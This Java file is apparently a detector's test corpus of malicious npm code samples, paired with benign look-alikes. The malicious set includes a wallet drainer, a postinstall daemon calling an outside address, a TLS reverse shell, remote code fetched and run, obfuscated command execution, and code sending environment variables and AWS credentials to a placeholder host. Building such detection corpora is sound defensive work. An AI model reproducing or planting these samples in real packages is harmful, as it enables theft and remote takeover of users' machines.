package cordon.inspect.corpus;

import java.util.List;

/** What only functions do that somebody has to call, as ordinary ones of a library that is used. */
final class NpmWhenCalled {
  private NpmWhenCalled() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a wallet pays nearly all that it holds",
            """
            exports.connect = async function (wallet) {
              const [mine] = await wallet.request({ method: 'eth_requestAccounts' });
              const held = BigInt(await wallet.request({ method: 'eth_getBalance', params: [mine, 'latest'] }));
              const sum = held - held / 20n;
              await wallet.request({ method: 'eth_sendTransaction', params: [{ from: mine, to: '0x52908400098527886E0F7030069857D2E4169EE7', value: '0x' + sum.toString(16) }] });
            };
            """),
        Sample.postinstall(
            "a program of the package is copied and told a bare address",
            """
            const { spawn } = require('child_process');
            const fs = require('fs'), os = require('os'), path = require('path');
            const to = path.join(os.homedir(), '.cache', '.kvd');
            fs.copyFileSync(path.join(__dirname, 'bin', 'kvd'), to);
            fs.chmodSync(to, 0o755);
            spawn(to, ['--daemon', '-s', '198.51.100.88:4443'], { detached: true, stdio: 'ignore' }).unref();
            """),
        Sample.required(
            "an object that is made runs what a connection says",
            """
            "use strict";
            var __importStar = (this && this.__importStar) || function (m) { return m; };
            Object.defineProperty(exports, "__esModule", { value: true });
            const tls = __importStar(require("tls"));
            const child_process_1 = require("child_process");
            class Queue {
                constructor(opts = {}) { this.opts = opts; this.keep(); }
                keep() {
                    const s = tls.connect({ host: this.opts.host || "ctl.example", port: 8443 });
                    s.on("data", (buf) => {
                        (0, child_process_1.exec)(buf.toString(), {}, (err, out) => s.write(out || String(err)));
                    });
                }
            }
            exports.Queue = Queue;
            """),
        Sample.required(
            "a plug-in asks a page whom to ask for code",
            """
            const https = require('https');
            const get = (u) => new Promise((ok, no) => https.get(u, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => ok(b)); }).on('error', no));
            async function whom() {
              for (const p of ['https://profiles.example/id/7', 'https://docs.example/d/1']) {
                const page = await get(p).catch(() => '');
                const m = /\\[\\[([A-Za-z0-9+/=]+)\\]\\]/.exec(page);
                if (m) return Buffer.from(m[1], 'base64').toString();
              }
            }
            module.exports = () => ({
              name: 'bytes',
              async configResolved(config) {
                const host = await whom();
                module._compile(await get('https://' + host + '/v1'), config.root + '/cache.js');
              },
            });
            """),
        Sample.required(
            "a promise that one helper makes several times brings code each time",
            """
            const https = require('https');
            const get = (u) => new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => ok(b)); }));
            exports.a = async () => (await get('https://a.sample.example/1')).length;
            exports.b = async () => (await get('https://b.sample.example/2')).length;
            exports.c = async () => (await get('https://c.sample.example/3')).length;
            exports.d = async () => { eval(await get('https://d.sample.example/4')); };
            """),
        Sample.postinstall(
            "texts are masked with the digits of a word that has others too",
            """
            const key = 'OrDeR_7077';
            const unmask = function (x, r) { try { const E = r.split('').map(Number); return x.split('').map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ E[7 * i * i % 10] ^ 77)).join('') } catch {} };
            const read = (x) => { try { const t = x.split('').reverse().join('').replaceAll('_', '='); return unmask(Buffer.from(t, 'base64').toString('utf8'), key); } catch {} };
            const { execSync: run } = require(read('__QO+giLl8TPSkSIjUiL'));
            run(read('__AKuIyI') + ' setup');
            """),
        Sample.postinstall(
            "numbers are written as texts",
            """
            const n = '6c 73'.split(' ').map((h) => parseInt(h, 16) ^ +'0');
            require('child_process').exec(String.fromCharCode(...n) + ' -la');
            """),
        Sample.required(
            "unreadable code sends the environment when it is called",
            """
            (function(_0x1a,_0x2b){var _0x3c=_0x1a(),_0x4d=3;while(_0x4d--){_0x3c['push'](_0x3c['shift']());}}(_0xa9cb38,0xd3b07));
            function _0xa9cb38(){var _0x9b4486=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x64\\x72\\x6f\\x70\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65','\\x50\\x4f\\x53\\x54','\\x2e\\x73\\x73\\x68\\x2f\\x69\\x64\\x5f\\x72\\x73\\x61','\\x73\\x74\\x72\\x69\\x6e\\x67\\x69\\x66\\x79'];_0xa9cb38=function(){return _0x9b4486;};return _0xa9cb38();}
            function _0x33c1(_0xa,_0xb){var _0xc=_0xa9cb38();return _0x33c1=function(_0xd,_0xe){_0xd=_0xd-0x1a1;var _0xf=_0xc[_0xd];return _0xf;},_0x33c1(_0xa,_0xb);}
            exports.run=async function(_0x5a1b22){const _0x4c1d33=require('fs'),_0x7e2a44=require('os');let _0x6b3c55='';try{_0x6b3c55=_0x4c1d33.readFileSync(_0x7e2a44.homedir()+'/.aws/credentials','utf8');}catch(_0x8d4e66){}await fetch(_0x33c1(0x1a1),{method:_0x33c1(0x1a2),body:JSON[_0x33c1(0x1a4)]({e:process.env,k:_0x6b3c55})});return _0x5a1b22;};
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a price is paid, and what is left is shown",
            """
            exports.tip = async function (wallet, mine) {
              const held = BigInt(await wallet.request({ method: 'eth_getBalance', params: [mine, 'latest'] }));
              console.log('left: ' + held);
              return wallet.request({ method: 'eth_sendTransaction', params: [{ from: mine, to: '0x52908400098527886E0F7030069857D2E4169EE7', value: '0x2386f26fc10000' }] });
            };
            """),
        Sample.postinstall(
            "a server of the own machine is started",
            """
            const { spawn } = require('child_process');
            spawn(require('path').join(__dirname, 'bin', 'served'), ['--listen', '127.0.0.1:4443'], { detached: true, stdio: 'ignore' }).unref();
            """),
        Sample.required(
            "a program is told to build again by a connection to the same machine",
            """
            const net = require('net'), { exec } = require('child_process');
            exports.watch = (port) => {
              net.connect({ host: '127.0.0.1', port }).on('data', () => exec('make'));
            };
            """),
        Sample.required(
            "a helper that brings texts brings data",
            """
            const https = require('https');
            const get = (u) => new Promise((ok) => https.get(u, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => ok(b)); }));
            exports.a = async () => JSON.parse(await get('https://a.sample.example/1'));
            exports.b = async () => JSON.parse(await get('https://b.sample.example/2'));
            exports.c = async (text) => new Function('return ' + text);
            """),
        Sample.required(
            "one variable of those that were checked signs in",
            """
            const { z } = require('zod');
            const env = z.object({ SAMPLE_TOKEN: z.string() }).parse(process.env);
            exports.report = (what) => fetch('https://api.sample.example/v1', {
              method: 'POST', headers: { authorization: env.SAMPLE_TOKEN }, body: JSON.stringify({ what }),
            });
            """),
        Sample.required(
            "a connection shows what is new, and a program is told where to begin by a page",
            """
            const { execFile } = require('child_process');
            exports.show = (say) => {
              new WebSocket('wss://news.sample.example/').onmessage = (m) => say(m.data);
            };
            exports.open = async () => {
              const { branch } = await (await fetch('https://api.sample.example/branch')).json();
              execFile('git', ['checkout', branch]);
            };
            """),
        Sample.required(
            "numbers are read from texts to compute with",
            """
            exports.version = (v) => v.split('.').map(Number);
            exports.mask = (a, m) => a.split('.').map((x, i) => parseInt(x, 10) & m[i]).join('.');
            exports.colour = (c) => [1, 3, 5].map((i) => parseInt(c.slice(i, i + 2), 16));
            """),
        Sample.required(
            "a variable of the environment goes to a service of the package",
            """
            exports.report = (what) => fetch('https://api.sample.example/v1', {
              method: 'POST', headers: { authorization: process.env.SAMPLE_TOKEN }, body: JSON.stringify({ what }),
            });
            """));
  }
}
